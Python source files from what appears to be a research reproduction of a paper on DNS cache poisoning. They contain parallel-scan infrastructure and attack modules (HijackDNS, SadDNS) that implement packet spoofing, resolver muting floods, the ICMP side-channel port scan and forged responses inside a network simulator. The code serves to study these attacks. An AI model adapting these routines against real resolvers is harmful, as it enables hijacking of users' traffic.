                    OBS.counter("claim.shards_skipped_total",
                                worker=worker).inc()
                continue
            claimed_any = True
            started = time.perf_counter()
            aggregate = scan_range(spec, seed, shard.lo, shard.hi,
                                   kernel=kernel)
            record = ShardRecord(
                spec_hash=spec_hash, shard_id=shard.shard_id,
                dataset=spec.key, kind=kind, lo=shard.lo, hi=shard.hi,
                wall_time=time.perf_counter() - started,
                aggregate=aggregate,
            )
            store.append(record)
            release_shard(store, spec_hash, shard.shard_id)
            outcome.scanned.append(shard.shard_id)
            if OBS.enabled:
                from repro.atlas.pipeline import _observe_shard

                _observe_shard(record)
                OBS.counter("claim.shards_scanned_total",
                            worker=worker).inc()
        if not claimed_any:
            # Everything left is leased by live workers; let them
            # finish (or their leases expire) before the next pass.
            remaining = [r for r in ranges
                         if r.shard_id not in set(store.load(spec_hash))]
            if not remaining:
                break
            time.sleep(min(1.0, ttl / 4))
    return outcome


def merge_claimed(spec: DatasetSpec, seed: int | str = 0,
                  entities: int | None = None, shards: int = 16,
                  store: AtlasStore | None = None,
                  kernel: str = "auto"):
    """Coordinator merge: assemble the report from the claimed store.

    Any shard still missing (every worker died before finishing it) is
    scanned locally — the coordinator is just another claimant with
    merge duties, so the result is always complete and bit-identical to
    a serial scan.
    """
    if store is None:
        raise ValueError("claim mode requires a store")
    # Imported here: the pipeline itself imports the kernel from this
    # package, so a module-level import would be circular.
    from repro.atlas.pipeline import scan_dataset

    return scan_dataset(spec, seed=seed, entities=entities,
                        shards=shards, executor="serial", store=store,
                        kernel=kernel)
