"""repro.parallel — the parallel execution plane.

Three pillars, all bit-identical to the serial reference paths:

* :mod:`repro.parallel.kernel` — batch-vectorised columnar atlas scan
  (lockstep MT19937 over numpy, pure-Python ``array`` fallback),
* :mod:`repro.parallel.scheduler` + :mod:`repro.parallel.workers` —
  work-stealing shard dispatch and the shared ``--workers auto``
  resolver,
* :mod:`repro.parallel.claim` — multi-process/multi-host shard leasing
  over the atlas JSONL store with TTL expiry and idempotent re-claims.

Quickstart::

    from repro.atlas import AtlasStore, find_dataset, scan_dataset
    from repro.parallel import claim_worker, merge_claimed, resolve_workers

    spec = find_dataset("open")
    # Vectorised scan on every schedulable CPU:
    report = scan_dataset(spec, entities=200_000, workers="auto")

    # Claim mode: run this in as many processes/hosts as you like —
    # each claims shards via store leases; any of them may die.
    store = AtlasStore("runs/atlas")
    claim_worker(spec, entities=200_000, shards=64, store=store)
    # Coordinator merge (scans any shards every worker left behind):
    report = merge_claimed(spec, entities=200_000, shards=64, store=store)

Command line::

    python -m repro.parallel scan  --dataset open --entities 200000 --workers auto
    python -m repro.parallel claim --dataset open --entities 200000 --store runs/atlas
    python -m repro.parallel merge --dataset open --entities 200000 --store runs/atlas
    python -m repro.parallel bench --entities 40000
"""

from repro.parallel.claim import (
    ClaimOutcome,
    claim_shard,
    claim_worker,
    merge_claimed,
    release_shard,
)
from repro.parallel.kernel import VectorScanner, scan_range, vector_available
from repro.parallel.scheduler import run_stealing
from repro.parallel.workers import cpu_count, resolve_workers

__all__ = [
    "ClaimOutcome",
    "VectorScanner",
    "claim_shard",
    "claim_worker",
    "cpu_count",
    "merge_claimed",
    "release_shard",
    "resolve_workers",
    "run_stealing",
    "scan_range",
    "vector_available",
]
