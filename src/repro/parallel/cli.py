"""``python -m repro.parallel`` — the parallel execution plane CLI.

* ``scan`` — vectorised, work-stealing sharded scan of one dataset;
  prints rate and the aggregate checksum (compare against a serial run
  to prove bit-identity).
* ``claim`` — run ONE claim-mode worker: lease shards from a shared
  store, scan, append, release.  Start as many of these as you like,
  on as many hosts as share the store directory; kill any of them.
* ``merge`` — coordinator: merge a claimed store into the final report
  (scanning whatever shards every worker left behind).
* ``bench`` — serial vs N-worker rates with checksum equality, the
  same numbers the ``parallel`` section of ``BENCH_core.json`` gates.
"""

from __future__ import annotations

import argparse
import hashlib
import json

from repro.atlas.cli import parse_seed
from repro.obs.profile import stage
from repro.atlas.pipeline import scan_dataset
from repro.atlas.shards import find_dataset
from repro.atlas.store import AtlasStore
from repro.parallel.claim import DEFAULT_TTL, claim_worker, merge_claimed
from repro.parallel.kernel import vector_available
from repro.parallel.workers import (cpu_count, parse_workers,
                                    resolve_workers)


def aggregate_checksum(report) -> str:
    """Order-insensitive checksum of a scan's merged aggregate."""
    payload = json.dumps(report.aggregate.to_json(), sort_keys=True)
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()


def _print_report(report, label: str) -> None:
    rate = report.entities_per_second
    print(f"{label}: {report.dataset} {report.entities:,} entities, "
          f"{len(report.computed_shards)} shards computed + "
          f"{len(report.cached_shards)} cached in "
          f"{report.wall_clock:.2f}s ({rate:,.0f}/s, "
          f"{report.executor}, workers={report.workers})")
    print(f"  aggregate checksum: {aggregate_checksum(report)}")
    for note in report.notes:
        print(f"  note: {note}")


def _cmd_scan(args: argparse.Namespace) -> int:
    spec = find_dataset(args.dataset)
    store = AtlasStore(args.store) if args.store else None
    report = scan_dataset(
        spec, seed=args.seed, entities=args.entities, shards=args.shards,
        workers=args.workers, executor=args.executor, store=store,
        kernel=args.kernel,
    )
    _print_report(report, "scan")
    return 0


def _cmd_claim(args: argparse.Namespace) -> int:
    spec = find_dataset(args.dataset)
    store = AtlasStore(args.store)
    outcome = claim_worker(
        spec, seed=args.seed, entities=args.entities, shards=args.shards,
        store=store, worker=args.worker, ttl=args.ttl,
        kernel=args.kernel, max_shards=args.max_shards,
    )
    print(f"claim worker {outcome.worker}: scanned "
          f"{len(outcome.scanned)} shards, skipped (leased elsewhere) "
          f"{len(outcome.skipped)}, expired leases broken "
          f"{len(outcome.broken)}")
    print(json.dumps(outcome.to_json(), sort_keys=True))
    return 0


def _cmd_merge(args: argparse.Namespace) -> int:
    spec = find_dataset(args.dataset)
    store = AtlasStore(args.store)
    report = merge_claimed(spec, seed=args.seed, entities=args.entities,
                           shards=args.shards, store=store,
                           kernel=args.kernel)
    _print_report(report, "merge")
    return 0


def _cmd_bench(args: argparse.Namespace) -> int:
    spec = find_dataset(args.dataset)
    workers = resolve_workers(args.workers if args.workers else "auto")
    with stage("parallel.bench", executor="serial") as serial_timer:
        serial = scan_dataset(spec, seed=args.seed,
                              entities=args.entities,
                              shards=args.shards, executor="serial",
                              kernel=args.kernel)
    serial_wall = serial_timer.elapsed
    with stage("parallel.bench", executor="process") as parallel_timer:
        parallel = scan_dataset(spec, seed=args.seed,
                                entities=args.entities,
                                shards=args.shards, workers=workers,
                                executor="process",
                                kernel=args.kernel)
    parallel_wall = parallel_timer.elapsed
    serial_sum = aggregate_checksum(serial)
    parallel_sum = aggregate_checksum(parallel)
    speedup = serial_wall / parallel_wall if parallel_wall > 0 else 0.0
    print(f"bench {spec.key}: {serial.entities:,} entities, "
          f"{args.shards} shards, {workers} workers "
          f"(cpus: {cpu_count()}, vector: {vector_available()})")
    print(f"  serial:   {serial_wall:.2f}s "
          f"({serial.entities / serial_wall:,.0f}/s)")
    print(f"  parallel: {parallel_wall:.2f}s "
          f"({parallel.entities / parallel_wall:,.0f}/s, "
          f"speedup {speedup:.2f}x, "
          f"efficiency {speedup / workers:.2f})")
    if serial_sum != parallel_sum:
        print(f"  CHECKSUM MISMATCH: serial {serial_sum[:16]} != "
              f"parallel {parallel_sum[:16]}")
        return 1
    print(f"  checksums identical: {serial_sum}")
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.parallel",
        description=__doc__.split("\n\n")[0],
    )
    sub = parser.add_subparsers(dest="command", required=True)

    def common(p, require_store: bool = False) -> None:
        p.add_argument("--dataset", default="open")
        p.add_argument("--entities", type=int, default=None)
        p.add_argument("--shards", type=int, default=16)
        p.add_argument("--seed", type=parse_seed, default=0)
        p.add_argument("--kernel", default="auto",
                       choices=("auto", "vector", "python", "scalar"))
        p.add_argument("--store", required=require_store, default=None,
                       help="atlas shard store directory")

    scan = sub.add_parser("scan", help="vectorised work-stealing scan")
    common(scan)
    scan.add_argument("--workers", type=parse_workers, default=None)
    scan.add_argument("--executor", choices=("process", "serial"),
                      default="process")
    scan.set_defaults(fn=_cmd_scan)

    claim = sub.add_parser(
        "claim", help="run one lease-based claim worker against a store")
    common(claim, require_store=True)
    claim.add_argument("--worker", default="",
                       help="worker id recorded in leases "
                            "(default: host-pid)")
    claim.add_argument("--ttl", type=float, default=DEFAULT_TTL,
                       help="seconds before a silent lease is "
                            "considered dead and re-claimed")
    claim.add_argument("--max-shards", type=int, default=None,
                       help="stop after scanning this many shards")
    claim.set_defaults(fn=_cmd_claim)

    merge = sub.add_parser(
        "merge", help="coordinator merge of a claimed store")
    common(merge, require_store=True)
    merge.set_defaults(fn=_cmd_merge)

    bench = sub.add_parser(
        "bench", help="serial vs N-worker rates + checksum equality")
    common(bench)
    bench.add_argument("--workers", type=parse_workers, default=None)
    bench.set_defaults(fn=_cmd_bench)
    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    return args.fn(args)
