"""Work-stealing task dispatch with deterministic result ordering.

``concurrent.futures.Executor.map`` hands each worker a fixed slice of
the task list; one slow shard then idles every other worker at the end
of the run.  :func:`run_stealing` instead keeps a bounded window of
in-flight futures and feeds the next task to whichever worker finishes
first — idle-worker stealing without a shared queue.  Results are
streamed to a callback the moment they complete (any order — the atlas
store append is idempotent per shard) and *returned* in task order, so
callers observe the same list the serial loop would have produced no
matter how completion interleaves.

The pool is duck-typed (anything with ``submit``), which is how the
test-suite's adversarial shim — a pool that finishes futures in
reverse/random order — proves order independence.
"""

from __future__ import annotations

from concurrent.futures import FIRST_COMPLETED, Future, wait
from typing import Any, Callable, Sequence


def run_stealing(pool, fn: Callable[[Any], Any], tasks: Sequence[Any],
                 window: int,
                 on_result: Callable[[int, Any], None] | None = None
                 ) -> list[Any]:
    """Map ``fn`` over ``tasks`` through ``pool.submit``, stealing work.

    ``window`` bounds the number of in-flight futures (typically
    ``2 * workers``: enough that no worker starves while a result is
    being merged, small enough that a huge task list never floods the
    pool's call queue).  ``on_result(index, result)`` fires in
    *completion* order; the returned list is in *task* order.
    """
    if window < 1:
        raise ValueError(f"window must be >= 1, got {window}")
    results: list[Any] = [None] * len(tasks)
    pending: dict[Future, int] = {}
    next_index = 0
    while next_index < len(tasks) or pending:
        while next_index < len(tasks) and len(pending) < window:
            pending[pool.submit(fn, tasks[next_index])] = next_index
            next_index += 1
        done, _ = wait(pending, return_when=FIRST_COMPLETED)
        for future in done:
            index = pending.pop(future)
            result = future.result()
            results[index] = result
            if on_result is not None:
                on_result(index, result)
    return results
