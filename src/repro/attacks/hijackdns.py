"""HijackDNS: cache poisoning via BGP prefix hijack (paper Section 3.1).

The attacker announces (a sub-prefix of) the prefix holding the target
domain's nameserver, diverting the victim resolver's query to itself.  It
answers the query with malicious records — trivially valid, because it
*saw* the challenge values — and relays all other diverted traffic to the
genuine destination to stay stealthy.

Effectiveness is what Table 6 reports: hitrate 100%, one triggered query,
two packets (the announcement and the spoofed response).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.attacks.base import AttackResult, OffPathAttacker, cache_poisoned
from repro.attacks.trigger import QueryTrigger
from repro.bgp.hijack import ATTACKER_ASN, HijackCampaign
from repro.bgp.prefix import Prefix
from repro.bgp.rpki import INVALID
from repro.dns import names
from repro.dns.records import ResourceRecord, TYPE_A, rr_a
from repro.dns.resolver import RecursiveResolver
from repro.dns.wire import decode_message
from repro.netsim.network import Network
from repro.netsim.packet import Ipv4Packet, PROTO_UDP

DNS_PORT = 53


@dataclass
class HijackDnsConfig:
    """Tunables for the hijack attack."""

    sub_prefix: bool = True       # sub-prefix vs same-prefix hijack
    relay_other_traffic: bool = True
    hijack_duration: float = 5.0  # keep the announcement short-lived
    max_iterations: int = 3
    # The AS the malicious announcement claims to originate from; ROV
    # deployments validate (prefix, origin) pairs against their ROAs.
    attacker_asn: int = ATTACKER_ASN


class HijackDnsAttack:
    """Execute HijackDNS against one resolver/domain pair."""

    method_name = "HijackDNS"

    def __init__(self, attacker: OffPathAttacker, network: Network,
                 resolver: RecursiveResolver, target_domain: str,
                 nameserver_ip: str, malicious_records: list[ResourceRecord],
                 config: HijackDnsConfig | None = None,
                 capture_possible: bool = True,
                 rov_filter=None):
        self.attacker = attacker
        self.network = network
        self.resolver = resolver
        self.target_domain = names.normalise(target_domain)
        self.nameserver_ip = nameserver_ip
        self.malicious_records = list(malicious_records)
        self.config = config if config is not None else HijackDnsConfig()
        # Whether the control-plane hijack actually captures the path
        # between resolver and nameserver.  Sub-prefix hijacks of
        # >/24-announced space capture everyone; same-prefix capture is
        # topology-dependent and decided by the BGP simulation upstream.
        self.capture_possible = capture_possible
        # Deployed route-origin validation (a
        # :class:`repro.defenses.rov.RovFilter` or anything with its
        # ``validate(prefix, origin) -> str`` surface).  The paper's
        # point survives intact: only an *invalid* verdict filters the
        # announcement — ``unknown`` (no covering ROA, or a poisoned
        # relying party with an empty cache) propagates.
        self.rov_filter = rov_filter
        self._campaign: HijackCampaign | None = None
        self._answered = 0

    # -- packet handling while the hijack is live --------------------------------

    def _on_diverted(self, packet: Ipv4Packet) -> None:
        if packet.dst != self.nameserver_ip:
            return
        handled = False
        if packet.proto == PROTO_UDP and packet.udp is not None \
                and packet.udp.dport == DNS_PORT:
            handled = self._try_answer_query(packet)
        if not handled and self.config.relay_other_traffic \
                and self._campaign is not None:
            # Stealth: everything that is not the raced DNS query flows on.
            self._campaign.relay(packet)

    def _try_answer_query(self, packet: Ipv4Packet) -> bool:
        assert packet.udp is not None
        try:
            query = decode_message(packet.udp.payload)
        except Exception:
            return False
        question = query.question
        if query.is_response or question is None:
            return False
        if not names.is_subdomain(question.name, self.target_domain):
            return False
        # The intercepted query hands us every challenge value: TXID,
        # source port, exact question case.  Forge and answer.
        response = self.attacker.forge_response(
            question.name, question.qtype, query.txid,
            self._records_for(question.name),
            edns_udp_size=query.edns_udp_size,
        )
        self.attacker.spoof_dns(
            src=self.nameserver_ip, dst=packet.src,
            dport=packet.udp.sport, message=response,
        )
        self._answered += 1
        return True

    def _planted_ip(self, qname: str) -> str:
        """The address the forged answers map ``qname`` to.

        Success must be judged against what the attack actually plants:
        custom malicious records may point somewhere other than the
        attacker's own host.
        """
        for record in self.malicious_records:
            if record.rtype == TYPE_A and names.same_name(record.name,
                                                          qname):
                return record.data
        return self.attacker.address

    def _records_for(self, qname: str) -> list[ResourceRecord]:
        # The attacker authors the entire forged response, so once the
        # raced question is answered it plants every in-domain record it
        # brought along (a replacement TXT, an IPSECKEY, ...) in the
        # same answer — the resolver's bailiwick check accepts them all.
        related = [
            r for r in self.malicious_records
            if names.is_subdomain(r.name, self.target_domain)
        ]
        if any(names.same_name(r.name, qname) for r in related):
            return related
        return [rr_a(qname, self.attacker.address, ttl=86400)]

    # -- execution ----------------------------------------------------------------

    def execute(self, trigger: QueryTrigger,
                qname: str | None = None) -> AttackResult:
        """Run the attack: hijack, trigger, answer, withdraw."""
        qname = qname if qname is not None else self.target_domain
        started = self.network.now
        packets_before = self.attacker.packets_sent
        result = AttackResult(method=self.method_name, success=False)
        if not self.capture_possible:
            result.detail["reason"] = (
                "control-plane hijack does not capture the resolver-to-"
                "nameserver path (prefix filtered or topology unfavourable)"
            )
            return result
        prefix = Prefix.parse(f"{self.nameserver_ip}/24")
        if self.rov_filter is not None:
            state = self.rov_filter.validate(prefix,
                                             self.config.attacker_asn)
            result.detail["rov_state"] = state
            if state == INVALID:
                # RFC 6811 origin validation rejects the announcement
                # before it propagates: the one control-plane packet was
                # sent, but the data-plane capture never happens.
                result.detail["reason"] = (
                    f"ROV: announcement {prefix} from AS"
                    f"{self.config.attacker_asn} validates invalid "
                    "against the published ROAs and is filtered"
                )
                result.packets_sent = 1
                return result
        self._campaign = HijackCampaign(
            self.network, self.attacker.host, prefix,
        )
        self.attacker.host.packet_tap = self._on_diverted
        # The malicious announcement itself is one control-plane packet.
        announcement_packets = 1
        try:
            with self._campaign:
                for iteration in range(self.config.max_iterations):
                    result.iterations = iteration + 1
                    trigger.fire(qname, "A")
                    result.queries_triggered += 1
                    self.network.run(self.config.hijack_duration)
                    if cache_poisoned(self.resolver, qname,
                                      self._planted_ip(qname)):
                        result.success = True
                        break
        finally:
            self.attacker.host.packet_tap = None
        result.packets_sent = (
            self.attacker.packets_sent - packets_before + announcement_packets
        )
        result.duration = self.network.now - started
        result.detail.update({
            "diverted": self._campaign.diverted,
            "relayed": self._campaign.relayed,
            "answered_queries": self._answered,
            "hijack_kind": "sub-prefix" if self.config.sub_prefix
            else "same-prefix",
        })
        return result
