"""The three off-path DNS cache poisoning methodologies (paper Section 3).

* :class:`HijackDnsAttack` — intercept queries via BGP prefix hijack.
* :class:`SadDnsAttack` — infer the source port via the global ICMP rate
  limit side channel, then brute-force the TXID.
* :class:`FragDnsAttack` — plant spoofed second fragments in the IP
  defragmentation cache.

Plus the query-triggering strategies of Section 4.3 and the Table 1
applicability planner.
"""

from repro.attacks.base import (
    AttackResult,
    OffPathAttacker,
    cache_poisoned,
)
from repro.attacks.fragdns import FragDnsAttack, FragDnsConfig
from repro.attacks.hijackdns import HijackDnsAttack, HijackDnsConfig
from repro.attacks.planner import (
    ApplicabilityVerdict,
    AttackPlanner,
    MethodChoice,
    TargetProfile,
)
from repro.attacks.saddns import SadDnsAttack, SadDnsConfig
from repro.attacks.trigger import (
    CallableTrigger,
    OpenResolverTrigger,
    QueryTrigger,
    SpoofedClientTrigger,
    TimerPrediction,
)

__all__ = [
    "ApplicabilityVerdict",
    "AttackPlanner",
    "AttackResult",
    "CallableTrigger",
    "FragDnsAttack",
    "FragDnsConfig",
    "HijackDnsAttack",
    "HijackDnsConfig",
    "MethodChoice",
    "OffPathAttacker",
    "OpenResolverTrigger",
    "QueryTrigger",
    "SadDnsAttack",
    "SadDnsConfig",
    "SpoofedClientTrigger",
    "TargetProfile",
    "TimerPrediction",
    "cache_poisoned",
]
