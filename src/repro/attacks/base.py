"""Common attacker model and attack result types.

The paper's adversary is *off-path*: it cannot observe traffic between
the victim resolver and the nameserver, but it can send packets with
spoofed source addresses (about 30% of networks perform no egress
filtering).  :class:`OffPathAttacker` packages that capability set —
spoofed UDP/ICMP/fragment injection plus accounting — and the three
methodology classes build on it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from repro.core.eventlog import EventLog
from repro.core.rng import DeterministicRNG
from repro.dns import names
from repro.dns.message import DnsMessage
from repro.dns.records import ResourceRecord, TYPE_A, rr_rrsig
from repro.dns.resolver import RecursiveResolver
from repro.dns.wire import encode_message
from repro.netsim.host import Host
from repro.netsim.packet import IcmpMessage, Ipv4Packet, PROTO_UDP
from repro.netsim.wire import encode_ipv4, encode_udp, make_icmp_packet
from repro.netsim.packet import UdpDatagram


@dataclass
class AttackResult:
    """Outcome of one attack execution."""

    method: str
    success: bool
    iterations: int = 0
    packets_sent: int = 0
    queries_triggered: int = 0
    duration: float = 0.0
    detail: dict[str, Any] = field(default_factory=dict)

    @property
    def hitrate(self) -> float:
        """Empirical per-triggered-query success probability."""
        if self.queries_triggered == 0:
            return 0.0
        return (1.0 if self.success else 0.0) / self.queries_triggered

    def describe(self) -> str:
        """Summary line in the style of the paper's Table 6 rows."""
        status = "SUCCESS" if self.success else "FAILED"
        return (f"{self.method}: {status} after {self.iterations} iterations,"
                f" {self.queries_triggered} triggered queries,"
                f" {self.packets_sent} attack packets,"
                f" {self.duration:.1f}s (virtual)")


class OffPathAttacker:
    """Spoofing-capable packet injector bound to an attacker host."""

    def __init__(self, host: Host, rng: DeterministicRNG | None = None,
                 log: EventLog | None = None):
        if not host.config.egress_spoofing_allowed:
            raise ValueError(
                "off-path attacks need a spoofing-friendly network; set "
                "egress_spoofing_allowed on the attacker host"
            )
        self.host = host
        self.rng = rng if rng is not None else DeterministicRNG(
            f"attacker-{host.name}")
        self.log = log if log is not None else (
            host.network.log if host.network is not None else EventLog()
        )
        self.packets_sent = 0
        self.icmp_received: list[tuple[IcmpMessage, str]] = []
        host.icmp_listener = self._on_icmp

    @property
    def address(self) -> str:
        """The attacker's own (non-spoofed) address."""
        return self.host.address

    def _on_icmp(self, message: IcmpMessage, src: str) -> None:
        self.icmp_received.append((message, src))

    def drain_icmp(self) -> list[tuple[IcmpMessage, str]]:
        """Collect and clear ICMP messages received since the last call."""
        received = self.icmp_received
        self.icmp_received = []
        return received

    # -- spoofed packet primitives ---------------------------------------------

    def spoof_udp(self, src: str, sport: int, dst: str, dport: int,
                  payload: bytes, ident: int | None = None) -> None:
        """Inject a UDP packet with an arbitrary source address."""
        from repro.netsim.wire import make_udp_packet

        packet = make_udp_packet(
            src=src, dst=dst, sport=sport, dport=dport, payload=payload,
            ident=ident if ident is not None else self.rng.randint(0, 0xFFFF),
        )
        self.host.raw_send(packet)
        self.packets_sent += 1

    def inject_udp(self, packet: Ipv4Packet) -> None:
        """Inject a pre-built (possibly spoofed) packet and account it.

        The flooding fast paths build their packets with incremental
        checksums; this is :meth:`spoof_udp` minus the encoding.
        """
        self.host.raw_send(packet)
        self.packets_sent += 1

    def spoof_dns(self, src: str, dst: str, dport: int,
                  message: DnsMessage, sport: int = 53) -> None:
        """Inject a spoofed DNS message (default: as if from port 53)."""
        self.spoof_udp(src, sport, dst, dport, encode_message(message))

    def spoof_icmp(self, src: str, dst: str, message: IcmpMessage) -> None:
        """Inject a spoofed ICMP message."""
        packet = make_icmp_packet(src=src, dst=dst, message=message,
                                  ident=self.rng.randint(0, 0xFFFF))
        self.host.raw_send(packet)
        self.packets_sent += 1

    def spoof_fragment(self, src: str, dst: str, ident: int,
                       frag_offset_bytes: int, payload: bytes,
                       more_fragments: bool = False) -> None:
        """Inject one raw IP fragment (the FragDNS planting primitive)."""
        if frag_offset_bytes % 8:
            raise ValueError("fragment offset must be 8-byte aligned")
        packet = Ipv4Packet(
            src=src, dst=dst, proto=PROTO_UDP, payload=payload,
            ident=ident, mf=more_fragments,
            frag_offset=frag_offset_bytes // 8,
        )
        self.host.raw_send(packet)
        self.packets_sent += 1

    def send_udp(self, dst: str, dport: int, payload: bytes,
                 sport: int | None = None) -> None:
        """Send a normal (non-spoofed) UDP packet from the attacker."""
        self.spoof_udp(self.address,
                       sport if sport is not None else self.rng.pick_port(),
                       dst, dport, payload)

    # -- forgery helpers ---------------------------------------------------------

    def forge_response(self, question_name: str, qtype: int, txid: int,
                       records: list[ResourceRecord],
                       pretend_signed: bool = False,
                       edns_udp_size: int | None = 4096) -> DnsMessage:
        """Build a malicious DNS response.

        ``pretend_signed`` attaches RRSIGs — but with ``valid=False``,
        because an off-path attacker cannot forge DNSSEC signatures.
        That is the model's cryptographic assumption, enforced here.
        """
        from repro.dns.message import Question

        response = DnsMessage(
            txid=txid, is_response=True, authoritative=True,
            questions=[Question(name=question_name, qtype=qtype)],
            answers=list(records),
            edns_udp_size=edns_udp_size,
        )
        if pretend_signed:
            for record in records:
                response.answers.append(rr_rrsig(
                    record.name, record.rtype,
                    names.parent_of(record.name) or record.name,
                    valid=False,   # forgery: signature cannot verify
                ))
        return response


def cache_poisoned(resolver: RecursiveResolver, qname: str,
                   attacker_ip: str, mark: bool = True) -> bool:
    """Ground-truth check: does the cache map ``qname`` to the attacker?

    When it does (and ``mark`` is set), the entry's ``poisoned`` flag is
    stamped so later forensics and measurements can count it.
    """
    entry = resolver.cache.entry(qname, TYPE_A)
    if entry is None:
        return False
    poisoned = any(
        record.rtype == TYPE_A and record.data == attacker_ip
        for record in entry.records
    )
    if poisoned and mark:
        entry.poisoned = True
    return poisoned


def encode_udp_segment(src: str, dst: str, sport: int, dport: int,
                       payload: bytes) -> bytes:
    """UDP header + payload bytes with valid checksum (attack crafting)."""
    return encode_udp(src, dst, UdpDatagram(sport=sport, dport=dport,
                                            payload=payload))


def plant_poison(resolver: RecursiveResolver,
                 records: list[ResourceRecord],
                 source: str = "poisoning-attack") -> None:
    """Insert records into a cache as a completed poisoning attack would.

    The application-level attack demonstrations need "a poisoned cache"
    as their starting state; any of the three methodologies produces the
    same end state, so this helper stamps the records in directly (with
    the ``poisoned`` ground-truth flag) instead of re-running a full
    methodology per demonstration.  End-to-end attack paths are
    exercised by the methodology tests and benches themselves.
    """
    now = resolver.host.now
    resolver.cache.put(records, now, bailiwick=None, source=source,
                       poisoned=True)
    for record in records:
        entry = resolver.cache.entry(record.name, record.rtype)
        if entry is not None:
            entry.poisoned = True
