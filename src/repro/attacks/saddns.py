"""SadDNS: cache poisoning via the global ICMP rate-limit side channel.

Paper Section 3.2 (Figure 1).  The attack per iteration:

1. **Mute** the genuine nameserver by flooding it with queries spoofed
   from the resolver's address, tripping its response-rate-limiting —
   this removes the race against the authentic response.
2. **Trigger** a query so the resolver opens an ephemeral UDP port
   toward the muted nameserver.
3. **Scan** for that port: batches of 50 UDP probes spoofed from the
   nameserver's address exhaust the resolver's *global* ICMP
   port-unreachable budget only if every probed port is closed; a
   verification probe from the attacker's own address then reveals — by
   the presence or absence of an ICMP error — whether the batch hit the
   open port.  Divide and conquer isolates it.
4. **Flood** the discovered port with spoofed responses for every
   possible TXID; the one matching the outstanding query poisons the
   cache.

The numbers Table 6 reports (hitrate ≈ 0.2%, ≈ 497 triggered queries,
≈ 1M packets, minutes of attack time) emerge from these mechanics.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

from repro.attacks.base import AttackResult, OffPathAttacker, cache_poisoned
from repro.attacks.trigger import QueryTrigger
from repro.dns import names
from repro.dns.message import make_query
from repro.dns.nameserver import AuthoritativeServer
from repro.dns.records import ResourceRecord, TYPE_A, rr_a
from repro.dns.resolver import RecursiveResolver
from repro.dns.wire import encode_message
from repro.netsim.addresses import ip_to_int
from repro.netsim.checksum import ones_complement_sum
from repro.netsim.network import Network
from repro.netsim.packet import (
    PROTO_UDP,
    UDP_HEADER_LEN,
    Ipv4Packet,
    UdpDatagram,
)

DNS_PORT = 53
EPHEMERAL_LOW = 1024
EPHEMERAL_HIGH = 65535


@dataclass
class SadDnsConfig:
    """Attack tunables; defaults reproduce the paper's effectiveness."""

    batch_size: int = 50            # the global ICMP burst constant
    scan_batches_per_iteration: int = 3
    batch_spacing: float = 0.055    # seconds for 50 tokens to refill
    mute_burst: int = 2000          # spoofed queries per muting round
    abstract_mute: bool = True      # account the flood without 2000 events
    mute_duration: float = 2.2      # keep the server muted this long
    mute_interval: float = 0.09     # re-drain cadence while muted
    max_iterations: int = 2000
    txid_flood_chunk: int = 4096
    verification_port: int = 11     # known-closed port for the check probe
    iteration_budget: float = 0.6   # pause between iterations (~1 query/s)


class SadDnsAttack:
    """Execute SadDNS against one resolver/nameserver pair."""

    method_name = "SadDNS"

    def __init__(self, attacker: OffPathAttacker, network: Network,
                 resolver: RecursiveResolver,
                 nameserver: AuthoritativeServer, target_domain: str,
                 malicious_records: list[ResourceRecord] | None = None,
                 config: SadDnsConfig | None = None):
        self.attacker = attacker
        self.network = network
        self.resolver = resolver
        self.nameserver = nameserver
        self.target_domain = names.normalise(target_domain)
        self.malicious_records = malicious_records or [
            rr_a(self.target_domain, attacker.address, ttl=86400)
        ]
        self.config = config if config is not None else SadDnsConfig()
        self._rng = attacker.rng.derive("saddns")

    # -- step 1: mute the nameserver -------------------------------------------

    def _planted_ip(self, qname: str) -> str:
        """The address the forged answers map ``qname`` to.

        Success must be judged against what the attack actually plants:
        custom malicious records may point somewhere other than the
        attacker's own host.
        """
        for record in self.malicious_records:
            if record.rtype == TYPE_A and names.same_name(record.name,
                                                          qname):
                return record.data
        return self.attacker.address

    def mute_nameserver(self) -> int:
        """Keep the nameserver's RRL budget exhausted for the window.

        The paper's attack floods the server with thousands of queries
        per second spoofed from the resolver's address so that its
        rate limiter never accumulates a token for the genuine response.
        Returns the number of (accounted) packets.  With
        ``abstract_mute`` the sustained flood is modelled by re-draining
        the limiter on the flood's cadence while only a token burst is
        simulated packet-by-packet; the packet count reported is the
        full flood either way.
        """
        config = self.config
        resolver_ip = self.resolver.address
        ns_ip = self.nameserver.address
        flood_query = make_query(
            f"{names.random_label(self._rng)}.{self.target_domain}",
            TYPE_A, self._rng.pick_txid(),
        )
        payload = encode_message(flood_query)
        real = 5 if config.abstract_mute else config.mute_burst
        for _ in range(real):
            self.attacker.spoof_udp(resolver_ip, self._rng.pick_port(),
                                    ns_ip, DNS_PORT, payload)
        if config.abstract_mute:
            bucket = self.nameserver._rrl_bucket
            if bucket is not None:
                scheduler = self.network.scheduler
                steps = int(config.mute_duration / config.mute_interval)
                bucket.drain(self.network.now)
                for step in range(1, steps + 1):
                    when = self.network.now + step * config.mute_interval
                    scheduler.call_at(when, bucket.drain, when)
            self.attacker.packets_sent += config.mute_burst - real
        return config.mute_burst

    # -- step 3: the ICMP side channel ------------------------------------------

    def probe_ports(self, candidate_ports: list[int]) -> bool:
        """One side-channel round: is one of ``candidate_ports`` open?

        Sends ``batch_size`` spoofed probes (candidates padded with
        known-closed filler ports so the ICMP budget is exactly spent),
        then the verification probe from the attacker's own address.
        Returns True when the verification elicited an ICMP error,
        i.e. some candidate did *not* burn a token because it was open.
        """
        config = self.config
        resolver_ip = self.resolver.address
        ns_ip = self.nameserver.address
        filler_port = 2
        batch = list(candidate_ports)
        while len(batch) < config.batch_size:
            batch.append(filler_port)
            filler_port += 1
        self.attacker.drain_icmp()
        for port in batch:
            self.attacker.spoof_udp(ns_ip, DNS_PORT, resolver_ip, port,
                                    b"\x00\x00probe")
        # Verification probe, same instant: the deterministic scheduler
        # delivers it after the batch, before any token refill.
        self.attacker.send_udp(resolver_ip, config.verification_port,
                               b"\x00\x00verify")
        self.network.run(0.03)
        responses = self.attacker.drain_icmp()
        return any(
            message.is_port_unreachable and src == resolver_ip
            for message, src in responses
        )

